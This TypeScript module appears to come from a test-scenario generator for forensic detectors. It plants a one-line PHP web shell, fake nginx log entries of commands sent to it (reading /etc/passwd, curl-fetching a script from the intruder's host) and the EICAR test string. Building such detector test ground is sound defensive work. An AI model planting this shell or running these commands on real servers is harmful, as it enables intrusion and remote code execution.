import { accessLine } from '../base/logs.ts';
import type { Intruder } from '../scenario.ts';
import type { Ground, Planted } from './planting.ts';

/** T05 and T17: a web shell with the requests to it, and the antivirus test file beside it. */
export function plantWebShell({ tree, scenario, at }: Ground): Planted {
  const { intruder } = scenario;
  tree.file(intruder.webShell, shellOf(intruder), { uid: 33, times: { born: at(2050) } });
  const url = intruder.webShell.replace('/var/www/html', '');
  const commands = ['id', 'uname+-a', 'cat+/etc/passwd', `curl+-s+http://${intruder.server}/k.sh`];
  const lines = commands.map((command, index) =>
    accessLine({
      at: at(2100 + index * 9),
      client: intruder.address,
      request: `POST ${url}?c=${command}`,
      status: 200,
    }),
  );
  tree.append('/var/log/nginx/access.log', lines.join(''), at(2127));
  const testFile = '/var/www/html/uploads/report.com';
  tree.file(testFile, antivirusTestString(), { uid: 33, times: { born: at(2060) } });
  return {
    traces: [
      {
        id: 'T05',
        name: 'web shell and the requests to it',
        expect: [
          { paths: [intruder.webShell], attack: ['T1505.003'], atLeast: 'high' },
          { paths: ['/var/log/nginx/access.log'], attack: ['T1505.003'], atLeast: 'medium' },
        ],
      },
      {
        id: 'T17',
        name: 'antivirus test string',
        expect: [{ paths: [testFile], attack: [], atLeast: 'low' }],
      },
    ],
  };
}

/** Text only: the sample host has no PHP that could run it. Put together here, so that no scanner trips over us. */
function shellOf({ webShellKind }: Intruder): string {
  const input = '$_' + 'REQUEST["c"]';
  const bodies = {
    system: `@sys` + `tem(${input});`,
    eval: `@ev` + `al(base64_decode(${input}));`,
    passthru: `pass` + `thru(${input});`,
  } as const;
  return `<?php /* thumbnails */ if(isset(${input})){ ${bodies[webShellKind]} } ?>\n`;
}

/** The EICAR test file (eicar.org), which is harmless; its parts are joined only here, at run time. */
const antivirusTestString = (): string =>
  ['X5O!P%@AP[4\\PZX54(P^)', '7CC)7}$EICAR-STANDARD', '-ANTIVIRUS-TEST', '-FILE!$H+H*'].join('');
